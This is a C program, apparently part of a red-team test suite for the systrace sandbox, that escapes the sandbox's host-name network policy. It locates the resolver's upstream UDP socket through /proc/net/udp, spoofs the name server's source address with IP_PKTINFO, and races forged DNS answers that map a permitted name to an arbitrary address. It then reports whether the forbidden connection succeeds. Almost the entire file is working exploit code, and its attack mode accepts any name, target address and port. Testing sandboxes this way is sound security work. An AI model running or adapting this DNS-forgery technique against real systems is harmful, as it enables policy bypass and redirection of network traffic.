/* dns_forge.c: a program chooses the address a permitted host name stands for, by racing a
 * forged answer at systrace's resolver (issue 11, red team 29; class 7, host names).
 *
 * Under `host` rules systrace redirects each query to a name server of /etc/resolv.conf to a
 * resolver of its own, which forwards it -- unchanged: the program's own id -- on a fresh UDP
 * socket connected to the server, and records the addresses of the first answer that socket
 * gets as the name's.  A socket connected to SERVER:53 takes a datagram from any local
 * process whose source is SERVER:53, and the source is the sender's to choose: a socket bound
 * to port 53 of any local address, sending with IP_PKTINFO's ipi_spec_dst = SERVER (a local
 * address: loopback, or the host's own).  The upstream socket is in /proc/net/udp (its remote
 * address is the server's), the id is the program's own: the forger needs no guess, only to
 * be faster than the server.
 *
 *   dns_forge control                  natively: a socket connected to the name server (as
 *                                      the resolver's is) takes the forged datagram --
 *                                      ESCAPED (the technique works); BLOCKED when not
 *   dns_forge attack NAME EVIL PORT N  tries N times: asks the name server for NAME and
 *                                      races an answer "NAME is EVIL" at every socket
 *                                      connected to the server; ESCAPED when a connect to
 *                                      EVIL:PORT (an address the policy permits only as NAME)
 *                                      then succeeds, BLOCKED when it never does (saying
 *                                      how many lookups were answered: the name resolves)
 *
 * The name server is the first of /etc/resolv.conf.  The forger binds FORGER:53 (needs root
 * or net.ipv4.ip_unprivileged_port_start <= 53, as in most containers).
 */
#include "attack.h"
#include "dns_query.h"
#include <poll.h>

#define FORGER "127.0.0.9"

/* The answer "name is evil" to the query of id. */
static size_t forged(unsigned char *r, uint16_t id, const char *name, struct in_addr evil) {
    size_t n = question(r, id, 0x8180, 1, name);
    const unsigned char record[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4};
    memcpy(r + n, record, sizeof record);
    n += sizeof record;
    memcpy(r + n, &evil, 4);
    return n + 4;
}

/* A socket whose datagrams say they come from server:53 (bound to FORGER:53, the source
 * address chosen per datagram by IP_PKTINFO). */
static int forger_socket(void) {
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in me = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, FORGER, &me.sin_addr);
    if (bind(s, (struct sockaddr *)&me, sizeof me) < 0)
        skipped("bind %s:53: %s (port 53 needs root or a low ip_unprivileged_port_start)",
                FORGER, ename(errno));
    return s;
}

static int send_as(int s, struct in_addr source, struct in_addr to, int port,
                   const unsigned char *data, size_t size) {
    struct sockaddr_in dest = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
                               .sin_addr = to};
    struct iovec iov = {(void *)data, size};
    char control[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
    struct msghdr msg = {.msg_name = &dest, .msg_namelen = sizeof dest, .msg_iov = &iov,
                         .msg_iovlen = 1, .msg_control = control,
                         .msg_controllen = sizeof control};
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = IPPROTO_IP;
    c->cmsg_type = IP_PKTINFO;
    c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
    struct in_pktinfo *info = (struct in_pktinfo *)CMSG_DATA(c);
    info->ipi_spec_dst = source;
    return sendmsg(s, &msg, 0) == (ssize_t)size ? 0 : -1;
}

/* The sockets connected to server:53 now: their local addresses and ports (up to max). */
static int upstream_sockets(int procfd, struct in_addr server, struct in_addr *addrs,
                            int *ports, int max) {
    static char buf[1 << 16];
    ssize_t got = pread(procfd, buf, sizeof buf - 1, 0);
    if (got <= 0)
        return 0;
    buf[got] = 0;
    char remote[32];
    snprintf(remote, sizeof remote, "%08X:0035", (unsigned)server.s_addr);
    int n = 0;
    for (char *line = strchr(buf, '\n'); line && n < max; line = strchr(line + 1, '\n')) {
        unsigned local, lport;
        char rem[32];
        if (sscanf(line + 1, " %*d: %X:%X %31s", &local, &lport, rem) == 3 &&
            strcmp(rem, remote) == 0) {
            addrs[n].s_addr = local;
            ports[n++] = (int)lport;
        }
    }
    return n;
}

static int reach(struct in_addr evil, int port) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port),
                             .sin_addr = evil};
    int ok = connect(s, (struct sockaddr *)&sa, sizeof sa);
    int err = errno;
    close(s);
    errno = err;
    return ok;
}

int main(int argc, char **argv) {
    struct sockaddr_in server;
    if (nameserver(&server) < 0)
        skipped("no nameserver in /etc/resolv.conf");
    int procfd = open("/proc/net/udp", O_RDONLY | O_CLOEXEC);
    if (procfd < 0)
        skipped("/proc/net/udp: %s", ename(errno));
    if (argc == 2 && strcmp(argv[1], "control") == 0) {
        /* the resolver's side, as systrace's: a socket connected to the server */
        int up = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (connect(up, (struct sockaddr *)&server, sizeof server) < 0)
            skipped("connect to the name server: %s", ename(errno));
        int f = forger_socket();
        struct in_addr addrs[8];
        int ports[8];
        int n = upstream_sockets(procfd, server.sin_addr, addrs, ports, 8);
        if (n == 0)
            blocked("the connected socket is not in /proc/net/udp");
        struct in_addr evil;
        inet_pton(AF_INET, "127.0.0.66", &evil);
        unsigned char r[512];
        size_t size = forged(r, 0x4242, "good.test", evil);
        for (int i = 0; i < n; i++)
            if (send_as(f, server.sin_addr, addrs[i], ports[i], r, size) < 0)
                blocked("sendmsg with IP_PKTINFO: %s", ename(errno));
        struct pollfd p = {up, POLLIN, 0};
        if (poll(&p, 1, 2000) == 1 && recv(up, r, sizeof r, 0) == (ssize_t)size)
            escaped("a socket connected to the name server took the forged answer "
                    "(found in /proc/net/udp, source spoofed with IP_PKTINFO)");
        blocked("the connected socket got nothing");
    }
    if (argc == 6 && strcmp(argv[1], "attack") == 0) {
        const char *name = argv[2];
        struct in_addr evil;
        if (inet_pton(AF_INET, argv[3], &evil) != 1)
            usage("EVIL: an IPv4 address");
        int port = atoi(argv[4]), tries = atoi(argv[5]);
        if (reach(evil, port) == 0)
            escaped("%s:%d reached before any lookup", argv[3], port);
        note("before: connect to %s:%d: %s", argv[3], port, ename(errno));
        int f = forger_socket();
        unsigned char q[512], r[512];
        int won = 0, answered = 0;
        for (int i = 0; i < tries; i++) {
            uint16_t id = (uint16_t)(0x4000 + i);
            size_t qsize = question(q, id, 0x0100, 0, name);
            size_t rsize = forged(r, id, name, evil);
            int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
            if (sendto(s, q, qsize, 0, (struct sockaddr *)&server, sizeof server) < 0) {
                note("sendto the name server: %s", ename(errno));
                close(s);
                break;
            }
            int sent[64] = {0}, nsent = 0;
            unsigned char reply[512];
            ssize_t got = -1;
            for (int spin = 0; spin < 200000 && got < 0; spin++) {
                struct in_addr addrs[16];
                int ports[16];
                int n = upstream_sockets(procfd, server.sin_addr, addrs, ports, 16);
                for (int k = 0; k < n; k++) {
                    int seen = 0;
                    for (int j = 0; j < nsent; j++)
                        seen |= sent[j] == ports[k];
                    if (seen || nsent == 64)
                        continue;
                    sent[nsent++] = ports[k];
                    send_as(f, server.sin_addr, addrs[k], ports[k], r, rsize);
                }
                got = recv(s, reply, sizeof reply, 0);
            }
            if (got < 0) {
                struct pollfd p = {s, POLLIN, 0};
                if (poll(&p, 1, 3000) == 1)
                    got = recv(s, reply, sizeof reply, 0);
            }
            close(s);
            if (got >= 16 && (reply[3] & 0x0f) == 0 && reply[7] > 0)
                answered++;
            if (got >= 16 && memcmp(reply + got - 4, &evil, 4) == 0)
                won++;
            if (reach(evil, port) == 0)
                escaped("after %d lookup(s) of %s (%d answered with the forged address), a "
                        "connect to %s:%d succeeded", i + 1, name, won, argv[3], port);
        }
        blocked("%d lookups of %s, %d answered, %d with the forged address; connect to "
                "%s:%d: %s", tries, name, answered, won, argv[3], port, ename(errno));
    }
    usage("dns_forge control | attack NAME EVIL PORT TRIES");
}
